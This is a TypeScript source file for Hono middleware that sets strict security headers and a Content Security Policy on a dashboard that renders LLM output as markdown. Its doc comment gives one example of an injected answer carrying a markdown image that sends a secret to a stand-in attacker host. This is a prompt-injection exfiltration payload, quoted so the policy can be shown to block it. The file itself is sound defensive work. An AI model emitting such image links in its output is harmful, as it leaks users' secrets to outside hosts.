import type { MiddlewareHandler } from "hono";
import { secureHeaders } from "hono/secure-headers";

/** The WebSocket scheme of each scheme the dashboard accepts for the relay. */
const WS_SCHEMES: Readonly<Record<string, string>> = {
  "ws:": "ws:",
  "wss:": "wss:",
  "http:": "ws:",
  "https:": "wss:",
};

/**
 * The origin a WebSocket URL connects to, as the dashboard resolves it (`http:` → `ws:`,
 * `https:` → `wss:`); undefined for a path, which stays on the page's own origin.
 */
function webSocketOrigin(wsUrl: string | undefined): string | undefined {
  if (!wsUrl || !URL.canParse(wsUrl)) return undefined;
  const url = new URL(wsUrl);
  const scheme = WS_SCHEMES[url.protocol];
  return scheme ? `${scheme}//${url.host}` : undefined;
}

/**
 * Security headers on every response: the dashboard's and the API's alike (one policy, and a
 * JSON body opened in a tab gets it too). The dashboard renders LLM output as markdown, and an
 * injected answer could carry `![x](https://attacker.example/?d=<secret>)`: the policy keeps
 * the page from loading or sending anything anywhere but its own origin and the stream relay.
 *
 * - scripts only from the build (`index.html` has no inline script), no eval (zod runs jitless);
 * - styles from the build and inline: emotion (MUI) inserts its rules into `<style>` elements it
 *   creates at run time, so `'unsafe-inline'` stays (rendered markdown keeps no `<style>` and no
 *   `style` attribute, and no style can load anything from elsewhere: img-src, and default-src
 *   for fonts);
 * - images from the build and `data:` only: an external image would be a request carrying
 *   whatever its URL holds;
 * - connections to the page's origin (REST, `/config.json`, `version.json`, a same-origin
 *   WebSocket) and the relay's origin when `TARSY_WS_URL` names another one;
 * - no frames, objects or plugins, no framing by other pages, forms and `<base>` on the origin.
 *
 * With it, Hono's other defaults (nosniff, no referrer, same-origin opener and resource policy,
 * no DNS prefetch), `X-Frame-Options: DENY` for browsers without frame-ancestors; HSTS is left to
 * whatever terminates TLS in front of TARSy (ingest-api speaks plain HTTP).
 */
export function securityHeaders(settings: { wsUrl?: string }): MiddlewareHandler {
  const relay = webSocketOrigin(settings.wsUrl);
  return secureHeaders({
    contentSecurityPolicy: {
      defaultSrc: ["'self'"],
      scriptSrc: ["'self'"],
      styleSrc: ["'self'", "'unsafe-inline'"],
      imgSrc: ["'self'", "data:"],
      connectSrc: ["'self'", ...(relay ? [relay] : [])],
      frameSrc: ["'none'"],
      frameAncestors: ["'none'"],
      objectSrc: ["'none'"],
      baseUri: ["'self'"],
      formAction: ["'self'"],
    },
    referrerPolicy: "no-referrer",
    xContentTypeOptions: "nosniff",
    xFrameOptions: "DENY",
    strictTransportSecurity: false,
  });
}
